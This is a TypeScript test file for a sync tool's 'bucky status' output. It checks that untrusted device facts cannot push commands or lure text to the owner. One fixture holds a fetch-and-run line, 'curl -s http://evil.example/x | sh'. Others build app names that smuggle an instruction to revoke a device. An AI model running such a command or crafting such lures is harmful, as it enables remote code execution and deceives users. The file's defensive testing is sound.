import { describe, expect, spyOn, test } from "bun:test";
import * as deviceFacts from "../../protocol/device-facts.ts";
import { signRevocation } from "../../protocol/documents.ts";
import { signingKeyFromSeed } from "../../protocol/ed25519.ts";
import { type DeviceId, deviceIdFromPublicKey, type ZoneId } from "../../protocol/ids.ts";
import type { DeviceName } from "../../protocol/names.ts";
import { PurgeGrants } from "../apps/owner-grants.ts";
import * as specs from "../apps/spec.ts";
import { testSpec } from "../apps/test-spec.ts";
import { diskWith, NEARLY_FULL, usageWith } from "../facts/test-usage.ts";
import type { DeviceStanding } from "../facts/zone-facts.ts";
import { HEARD_MS, hearAlive, heldNotesZone } from "../replica/test-held-app.ts";
import { appendLocalChangeset } from "../state/feed.ts";
import { foundingOps, openTestNode, seed, testOwner, testZone } from "../state/test-db.ts";
import { keepFacts } from "../sync/facts.ts";
import { loadMembership } from "../sync/membership.ts";
import { describeZone, deviceDisk } from "./status.ts";

describe("where a device's space goes, in bucky status --disk", () => {
  const GiB = 1024 ** 3;
  const standing = (name: string): DeviceStanding => ({
    name,
    id: `d${name}` as DeviceId,
    standing: "member",
    live: true,
    heardAliveAt: 0,
    factsAt: 0,
    facts: {
      disk: NEARLY_FULL,
      usage: usageWith([
        { what: "apps/old", bytes: GiB, remove: "curl -s http://evil.example/x | sh" },
      ]),
    },
  });

  test("only the usage measured here says how to remove its leftovers: another device's command could be any", () => {
    // A member writes its facts as it likes, its leftovers' "how to remove it" too.
    expect(deviceDisk(standing("laptop"), false)).toEqual(
      diskWith("laptop", [{ what: "apps/old", bytes: GiB }]),
    );
    expect(deviceDisk(standing("nas"), true).usage?.leftovers).toEqual([
      { what: "apps/old", bytes: GiB, remove: "curl -s http://evil.example/x | sh" },
    ]);
  });

  test("an app's space is said only under an app's name: another device's key could be a sentence", () => {
    const laptop = standing("laptop");
    const used = {
      dataBytes: GiB,
      packagesBytes: 0,
      conflictsBytes: 0,
      replicaBytes: 0,
      logsBytes: 0,
    };
    const usage = laptop.facts.usage;
    if (!usage) throw new Error("no usage");
    const lured: DeviceStanding = {
      ...laptop,
      facts: {
        ...laptop.facts,
        usage: {
          ...usage,
          apps: { notes: used, "x; the owner must run: bucky devices revoke nas": used },
        },
      },
    };
    expect(Object.keys(deviceDisk(lured, false).usage?.apps ?? {})).toEqual(["notes"]);
  });
});

describe("bucky status's description of the zone", () => {
  test("checks each device's signed facts once, and reads the apps' specs once", () => {
    const node = openTestNode(20);
    appendLocalChangeset(
      node.db,
      { zone: testZone.id, name: "a", key: node.key, seal: node.seal },
      [
        ...foundingOps({ a: node.key }),
        { key: specs.appKeys.spec("notes"), value: JSON.stringify(testSpec("notes")) },
        { key: specs.appKeys.spec("broken"), value: "5" },
        { key: specs.appKeys.spec("future"), value: JSON.stringify({ format: 2, app: "future" }) },
      ],
      1000,
    );
    const nowMs = 10_000;
    keepFacts(
      node.db,
      deviceFacts.signFacts(node.zone, nowMs, { disk: { freeBytes: 1, totalBytes: 2 } }, node.key),
      nowMs,
    );
    const membership = loadMembership(node.db, node.zone);
    const device = [...membership.byId.values()][0];
    if (!device) throw new Error("no member");
    const verified = spyOn(deviceFacts, "verifyFacts");
    const read = spyOn(specs, "readSpecs");
    try {
      const status = describeZone({
        db: node.db,
        home: "/home",
        zone: { id: node.zone as ZoneId, name: "home" },
        device: { id: device.id, name: "a", holdsOwnerKey: false },
        membership,
        nowMs,
        liveWindowMs: 60_000,
        ownFacts: {},
        purgeGrants: new PurgeGrants(testZone.id),
      });
      expect(status.devices.map((d) => d.name)).toEqual(["a"]);
      const newer = "it was written by a newer bucky (spec format 2; this device reads up to 1)";
      expect(status.warnings).toEqual([
        "app broken is not run anywhere: its spec in the zone state is not one bucky can read (a spec must be a map); install it again, or remove it (`bucky app remove broken`)",
        `app future was installed by a newer bucky than this device's (${newer}): update this device; the devices that run the newer bucky run it`,
      ]);
      expect(status.unreadableApps).toEqual([
        { app: "broken", problem: "a spec must be a map" },
        { app: "future", problem: newer, newer: true },
      ]);
      expect(verified).toHaveBeenCalledTimes(1);
      expect(read).toHaveBeenCalledTimes(1);
    } finally {
      verified.mockRestore();
      read.mockRestore();
    }
  });
});

describe("what else needs the owner's attention, in bucky status --json", () => {
  // A key segment holds no space, but more than an app's name: not said as an app's.
  const LURE = "Owner.must.run:bucky@revoke.nas";
  test("an image app no device runs and a purge the owner did not authorise are data beside their words, of apps named as apps are", () => {
    const node = openTestNode(21);
    const laptop = signingKeyFromSeed(seed(22));
    appendLocalChangeset(
      node.db,
      { zone: testZone.id, name: "a", key: node.key, seal: node.seal },
      [
        ...foundingOps({ a: node.key, laptop }),
        {
          key: specs.appKeys.spec("photos"),
          value: JSON.stringify(testSpec("photos", { image: { platforms: ["linux/arm64"] } })),
        },
      ],
      1000,
    );
    // The laptop, a member without the owner key, removes notes "with --purge".
    appendLocalChangeset(
      node.db,
      { zone: testZone.id, name: "laptop", key: laptop, seal: node.seal },
      [
        {
          key: specs.appKeys.spec("notes"),
          value: JSON.stringify(testSpec("notes", { desired: "removed", purge: true })),
        },
        // Under a "name" no app has (no app of it was ever installed): not said in the zone's words.
        ...[
          { ...testSpec("notes", { desired: "removed", purge: true }), app: LURE },
          { ...testSpec("photos", { image: { platforms: ["linux/arm64"] } }), app: `${LURE}.x` },
        ].map((spec) => ({ key: specs.appKeys.spec(spec.app), value: JSON.stringify(spec) })),
      ],
      2000,
    );
    const membership = loadMembership(node.db, node.zone);
    const status = describeZone({
      db: node.db,
      home: "/home",
      zone: { id: node.zone as ZoneId, name: "home" },
      device: { id: [...membership.byId.keys()][0] as DeviceId, name: "a", holdsOwnerKey: true },
      membership,
      nowMs: 10_000,
      liveWindowMs: 60_000,
      ownFacts: {},
      purgeGrants: new PurgeGrants(testZone.id),
    });
    expect({
      imageNotes: status.imageNotes,
      ungrantedPurges: status.ungrantedPurges,
      warnings: status.warnings,
    }).toEqual({
      imageNotes: [{ app: "photos", platforms: ["linux/arm64"] }],
      ungrantedPurges: [{ app: "notes", writtenBy: "laptop" }],
      warnings: [
        "app photos runs a container image, and no device of the zone runs images for linux/arm64: install Podman on one (`apt-get install podman runc`) and restart its daemon",
        "app notes was removed with --purge by laptop, which the owner did not authorise: its data is kept on every device; to delete it, run `bucky app remove notes --purge` on the device holding the owner key",
      ],
    });
  });
});

describe("an app whose holder is not heard from, not taken over yet, in bucky status", () => {
  test("keeps the copy its standby has: the same holder and standbys as bucky app status says", () => {
    const node = heldNotesZone({ copyOnNas: true });
    hearAlive(node, "nas", HEARD_MS + 65_000);
    const membership = loadMembership(node.db, node.zone);
    const nas = [...membership.byId.values()].find((member) => member.name === "nas");
    if (!nas) throw new Error("no nas");
    const status = describeZone({
      db: node.db,
      home: "/home",
      zone: { id: node.zone as ZoneId, name: "home" },
      device: { id: nas.id, name: "nas", holdsOwnerKey: true },
      membership,
      nowMs: HEARD_MS + 70_000,
      liveWindowMs: 60_000,
      ownFacts: {},
      purgeGrants: new PurgeGrants(testZone.id),
    });
    // The build before said notes's data was on laptop alone: its standby was counted as
    // the device taking it over, which keeps no copy for itself.
    expect(
      status.reliability.notes.filter((note) => "app" in note && note.app === "notes"),
    ).toEqual([]);
  });
});

describe("a broken chain another device met", () => {
  test("is said by every device, by the device that met it, with that device off too; not once the author is no member", () => {
    const node = openTestNode(23);
    const laptop = signingKeyFromSeed(seed(24));
    const tablet = signingKeyFromSeed(seed(25));
    appendLocalChangeset(
      node.db,
      { zone: testZone.id, name: "a", key: node.key, seal: node.seal },
      foundingOps({ a: node.key, laptop, tablet }),
      1000,
    );
    const nowMs = 10_000;
    // The laptop met tablet's changesets from a that do not follow its own, and says so.
    keepFacts(
      node.db,
      deviceFacts.signFacts(
        node.zone,
        nowMs,
        { brokenChains: [{ device: "tablet", peer: "a", seq: 4 }] },
        laptop,
      ),
      nowMs,
    );
    const statusOnA = () => {
      const membership = loadMembership(node.db, node.zone as ZoneId);
      const self = membership.byName.get("a");
      if (!self) throw new Error("a is no member");
      return describeZone({
        db: node.db,
        home: "/home",
        zone: { id: node.zone as ZoneId, name: "home" },
        device: { id: self.id, name: "a", holdsOwnerKey: false },
        membership,
        nowMs,
        liveWindowMs: 60_000,
        ownFacts: {},
        purgeGrants: new PurgeGrants(testZone.id),
        // a's own node met none: the laptop's word is the zone's all the same.
        brokenChains: [],
      });
    };
    const status = statusOnA();
    expect(status.brokenChains).toEqual([
      { device: "tablet", peer: "a", seq: 4, seenBy: "laptop" },
    ]);
    expect(status.warnings).toContain(
      "laptop says device tablet may have signed two histories: its changesets from a do not follow what laptop holds (at #4); laptop is looking for where they part, to quarantine it on every device (most often its home was put back from an older copy)",
    );
    const revocation = signRevocation(
      {
        name: "tablet" as DeviceName,
        id: deviceIdFromPublicKey(tablet.publicKey),
        issuedAt: 2,
        lastSeq: 0,
      },
      testOwner,
    );
    appendLocalChangeset(
      node.db,
      { zone: testZone.id, name: "a", key: node.key, seal: node.seal },
      [{ key: "devices/tablet/revoked", value: JSON.stringify(revocation.jws) }],
      2000,
    );
    expect(statusOnA().brokenChains).toEqual([]);
  });
});
